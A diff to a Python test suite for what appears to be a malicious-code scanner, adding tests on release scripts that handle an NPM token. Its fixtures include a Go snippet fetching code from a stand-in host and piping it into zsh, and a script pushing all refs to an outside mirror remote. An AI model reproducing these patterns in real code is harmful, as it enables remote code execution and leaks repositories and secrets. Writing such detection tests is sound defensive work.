@@ -1260,3 +1260,19 @@ def test_go_fetch_through_a_client_variable_reaches_a_shell():
             '\tres, _ := hc.Get("https://bootstrap.tool-mirror.example/init")\n\tsrc, _ := io.ReadAll(res.Body)\n'
             '\tc := exec.Command("zsh")\n\tc.Stdin = bytes.NewReader(src)\n\tc.Run()\n}\n')
     assert top("gen.go", text, "IG701") in HIGH
+
+
+# -- refs pushed to the repository's own remote carry no credential read elsewhere ----------------------
+_RELEASE = ('#!/usr/bin/env bash\nset -e\n: "${NPM_TOKEN:?ci only}"\nv=$(jq -r .version package.json)\n'
+            'git tag "v$v" && git push REMOTE "v$v"\n'
+            'printf "//registry.npmjs.org/:_authToken=%s\\n" "$NPM_TOKEN" > .npmrc\nnpm publish --access public\n')
+
+
+def test_a_release_pushing_its_tag_to_origin_sends_no_token():
+    assert top("scripts/release.sh", _RELEASE.replace("REMOTE", "origin"), "IG703") not in HIGH
+    assert top("scripts/release.sh", _RELEASE.replace("git push REMOTE", "git push --follow-tags upstream"), "IG703") not in HIGH
+
+
+def test_the_same_token_beside_a_push_to_another_remote_is_high():
+    text = _RELEASE.replace("git push REMOTE", "git remote add mirror https://git.gh-backup.dev/x.git && git push --all mirror")
+    assert top("scripts/release.sh", text, "IG703") in HIGH
